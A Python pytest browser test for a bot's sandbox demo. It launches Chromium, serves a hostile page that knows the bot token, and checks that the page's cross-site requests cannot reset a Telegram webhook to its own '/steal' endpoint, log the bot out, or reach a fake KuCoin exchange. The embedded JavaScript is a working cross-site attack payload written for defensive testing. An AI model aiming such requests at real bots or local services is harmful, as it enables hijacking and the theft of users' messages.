"""A page of another site, in a real browser, tries to control the demo and to read along."""

import asyncio
import os
import shutil
from collections.abc import AsyncIterator

import pytest
from aiohttp import web
from playwright.async_api import Page, async_playwright

from bot.sandbox.exchanges import ExchangeServer
from bot.sandbox.telegram import TelegramServer

pytestmark = pytest.mark.browser

CHROMIUM = shutil.which("chromium")
PAGE = """<!doctype html><title>x</title><script>
const urls = {urls};
const settled = [];
for (const url of urls) {{
  settled.push(new Promise((done) => {{
    const image = new Image();
    image.onload = image.onerror = done;
    image.src = url;
  }}));
  for (const mode of ["no-cors", "cors"]) {{
    const body = new URLSearchParams({{ url: "{here}/steal" }});
    settled.push(fetch(url, {{ method: "POST", mode, body }}).catch(() => 0));
  }}
}}
Promise.all(settled).then(() => {{ document.title = "tried"; }});
</script>"""


@pytest.fixture
async def page() -> AsyncIterator[Page]:
    if CHROMIUM is None and not os.environ.get("CI"):
        pytest.skip("chromium is not installed")
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
        )
        yield await browser.new_page()
        await browser.close()


@pytest.mark.parametrize("site", ["localhost", "127.0.0.1"])  # another site; another port of it
async def test_a_page_that_knows_the_token_gets_nothing(page: Page, site: str) -> None:
    stolen: list[str] = []
    async with (
        TelegramServer(token="1234:known-to-the-attacker-1234") as telegram,
        ExchangeServer("kucoin") as kucoin,
    ):

        async def serve(request: web.BaseRequest) -> web.Response:
            if request.path != "/":
                stolen.append(request.path)
            calls = f"{telegram.url}/bot{telegram.token}"
            urls = [f"{calls}/setWebhook?url={here}/steal", f"{calls}/logOut", f"{kucoin.url}/x"]
            text = PAGE.format(urls=urls, here=here)
            return web.Response(text=text, content_type="text/html")

        runner = web.ServerRunner(web.Server(serve))
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        here = f"http://{site}:{runner.addresses[0][1]}"
        await page.goto(here)
        await page.wait_for_function("document.title === 'tried'")
        await telegram.person(42).say("a secret")
        await asyncio.sleep(0.3)  # a webhook would be called at once
        await runner.cleanup()
        assert telegram.world.webhook.url == ""
        assert not telegram.world.logged_out
        assert telegram.calls == []
        assert kucoin.calls == []
    assert not [path for path in stolen if "steal" in path]
